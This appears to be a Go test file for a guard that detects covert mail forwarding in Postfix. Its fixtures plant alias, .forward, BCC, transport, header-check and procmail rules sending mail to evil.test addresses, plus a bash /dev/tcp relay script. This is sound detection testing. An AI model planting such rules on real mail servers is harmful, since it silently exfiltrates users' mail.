package forward_test

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// mechanism is one way of mail to outside: how the rule is planted, what is to be
// found, and one mail that goes by it.
type mechanism struct {
	name    string
	plant   func(w *world)
	want    string // "owner mechanism target verdict mode"; %a and %b are the accounts
	also    []string
	to      string // "": the owner
	from    string // "": somebody outside
	subject string
	arrives string // "": the target
	how     string // by what the evidence knows it
	handed  bool   // to a program: what that does is not known
}

func file(name, text string) func(*world) {
	return func(w *world) { w.plant(name, text) }
}

func mechanisms() []mechanism {
	return []mechanism{
		{name: "aliases", plant: func(w *world) { // as an admin does
			w.must(os.WriteFile(filepath.Join(w.dir, "aliases"), []byte(w.fill(firstAliases+"al: al1@evil.test\n")), 0o644))
			_, err := w.Command(w.t.Context(), "postalias", "hash:"+filepath.Join(w.dir, "aliases"))
			w.must(err)
		},
			want: "al aliases al1@evil.test outside redirect", to: "al@corp.test", how: "forwarded as"},
		{name: "include", plant: func(w *world) {
			w.must(os.WriteFile(filepath.Join(w.dir, "list"), []byte("inc1@evil.test\n"), 0o644))
		},
			want: "inc aliases inc1@evil.test outside redirect", to: "inc@corp.test", how: "forwarded as"},
		{name: "forward", plant: func(w *world) { w.plantHome(0, ".forward", "fw1@evil.test\n") },
			want: "%a forward fw1@evil.test outside redirect", to: "%a@corp.test", how: "forwarded as"},
		{name: "virtual", plant: file("virtual", "v1@vbox.test v1out@evil.test\n"),
			want: "v1@vbox.test virtual v1out@evil.test outside redirect", how: "orig_to"},
		{name: "canonical", plant: file("canonical", "can@corp.test canout@evil.test\n"),
			want: "can@corp.test canonical canout@evil.test outside redirect", how: "orig_to"},
		{name: "recipient bcc", plant: file("rbcc", "rbcc@vbox.test rbccout@evil.test\n"),
			want: "rbcc@vbox.test bcc rbccout@evil.test outside copy", how: "recipient"},
		{name: "sender bcc", plant: file("sbcc", "boss@corp.test sbccout@evil.test\n"),
			want: "boss@corp.test bcc sbccout@evil.test outside copy", to: "x@vbox.test", from: "boss@corp.test", how: "recipient"},
		{name: "generic", plant: file("generic", "gen@vbox.test genout@evil.test\n"),
			want: "gen@vbox.test generic genout@evil.test outside redirect", how: "relay"},
		{name: "transport", plant: func(w *world) {
			w.plant("transports", fmt.Sprintf("tr@vbox.test smtp:[mx.evil.test]:%s\n", w.sinkPort()))
		}, want: "tr@vbox.test transport smtp:[mx.evil.test]:%p outside redirect", arrives: "tr@vbox.test", how: "relay"},
		{name: "access redirect", plant: file("access", "acc@vbox.test REDIRECT accout@evil.test\n"),
			want: "acc@vbox.test access accout@evil.test outside redirect", how: "orig_to"},
		{name: "header redirect", plant: file("checks", "/^Subject: HRED/ REDIRECT hredout@evil.test\n"),
			want: "* checks hredout@evil.test outside redirect", to: "x@vbox.test", subject: "HRED", how: "orig_to"},
		{name: "header bcc", plant: file("checks", "/^Subject: HRED/ REDIRECT hredout@evil.test\n/^Subject: HBCC/ BCC hbccout@evil.test\n"),
			want: "* checks hbccout@evil.test outside copy", to: "x@vbox.test", subject: "HBCC", how: "action"},
		{name: "pipe", plant: func(w *world) {
			w.plant("transports", fmt.Sprintf("tr@vbox.test smtp:[mx.evil.test]:%s\npipe@vbox.test rgpipe:\n", w.sinkPort()))
		}, want: "pipe@vbox.test command %d/program ${sender} opaque redirect", arrives: "pipeout@evil.test", how: "program", handed: true},
		{name: "luser relay", plant: func(w *world) { w.set("luser_relay", "luser@evil.test") },
			want: "* luser_relay luser@evil.test outside redirect", to: "nobodyhere@corp.test", how: "forwarded as"},
		{name: "mailbox command and procmail", plant: func(w *world) {
			w.plantHome(1, ".procmailrc", "MAIL_CONFIG="+w.ConfigDir+"\nDEFAULT="+w.home(1, "mbox")+"\n:0 c\n! procout@evil.test\n")
			w.set("mailbox_command", "/usr/bin/procmail -a \"$EXTENSION\"")
		}, want: "%b procmail procout@evil.test outside copy",
			also: []string{"%b procmail /usr/sbin/sendmail -oi procout@evil.test opaque copy", "%b procmail MAIL_CONFIG=%d/config opaque copy"}, // another Postfix gets it than the host's
			to:   "%b@corp.test", how: "same message"},
		{name: "always bcc", plant: func(w *world) { w.set("always_bcc", "always@evil.test") },
			want: "* always_bcc always@evil.test outside copy", to: "x@vbox.test", how: "recipient"},
	}
}

// resender is a program that sends on what it gets, by SMTP. The verb is host/port.
const resender = `#!/bin/bash
exec 3<>/dev/tcp/%s
say() { printf '%%s\r\n' "$1" >&3; read -r answer <&3; }
read -r banner <&3
say "HELO localhost"
say "MAIL FROM:<$1>"
say "RCPT TO:<pipeout@evil.test>"
say DATA
while IFS= read -r line; do printf '%%s\r\n' "$line" >&3; done
say .
case "$answer" in 2*) exit 0 ;; esac
exit 75
`

// TestEachMechanism plants each kind of rule while the guard runs, and shows that
// the watch alerts, that a mail really leaves by it, that a scan finds exactly
// that, and that the evidence names the mail.
func TestEachMechanism(t *testing.T) {
	t.Parallel()
	need(t, "/usr/bin/procmail", "/bin/bash")
	w := startWorld(t, worldOptions{accounts: 2, master: []string{"rgpipe unix - n n - - pipe flags=R user=%a:nogroup argv=%d/program ${sender}"}})
	w.must(os.WriteFile(filepath.Join(w.dir, "program"), []byte(fmt.Sprintf(resender, strings.Replace(w.Addr(inbound), ":", "/", 1))), 0o755))
	w.must(os.Chmod(filepath.Join(w.dir, "program"), 0o755))
	before := w.scanned()
	var want []string
	for _, m := range mechanisms() {
		t.Run(m.name, func(t *testing.T) {
			w := w.in(t)
			for _, line := range append(m.also, m.want) {
				want = append(want, w.fill(line))
			}
			w.plantAndProve(m)
		})
	}
	var got []string
	for _, r := range w.scanned() {
		if !slices.ContainsFunc(before, func(b rule) bool { return b.ID == r.ID }) {
			got = append(got, r.String())
		}
	}
	slices.Sort(got)
	slices.Sort(want)
	if !slices.Equal(got, want) {
		t.Errorf("a scan finds\n%v\nwant\n%v", got, want)
	}
}

func (w *world) plantAndProve(m mechanism) {
	w.t.Helper()
	mark := w.hook.mark()
	m.plant(w)
	want := w.fill(m.want)
	var owner, target string
	words := strings.Fields(want) // a program's line has several
	owner, target = words[0], strings.Join(words[2:len(words)-2], " ")
	told := w.hook.waitRule(w.t, mark, "appeared", target)
	if got := (rule{Owner: told.Owner, Mechanism: told.Mechanism, Target: told.Target, Verdict: told.Verdict, Mode: told.Mode}).String(); got != want {
		w.t.Errorf("the alert says %s, want %s", got, want)
	}
	to := w.fill(m.to)
	if to == "" {
		to = owner
	}
	mail := w.send(to, m.from, m.subject)
	arrives := m.arrives
	if arrives == "" {
		arrives = target
	}
	w.arrives(mail, arrives)
	s := w.proven(told.ID, 1)
	found, status := s.Mails[0], "sent"
	if m.handed {
		status = "handed"
	}
	if !found.is(mail) || found.QueueID == "" || found.How != m.how || found.Status != status || len(s.Mails) != 1 {
		w.t.Errorf("evidence: %+v, want one mail %s, %s, by %s", s.Mails, mail.id, status, m.how)
	}
	if s.Report.Mails != 1 || s.Report.Delivered+s.Report.Handed != 1 || s.Report.DistinctSenders != 1 && m.from == "" {
		w.t.Errorf("report: %+v", s.Report)
	}
}
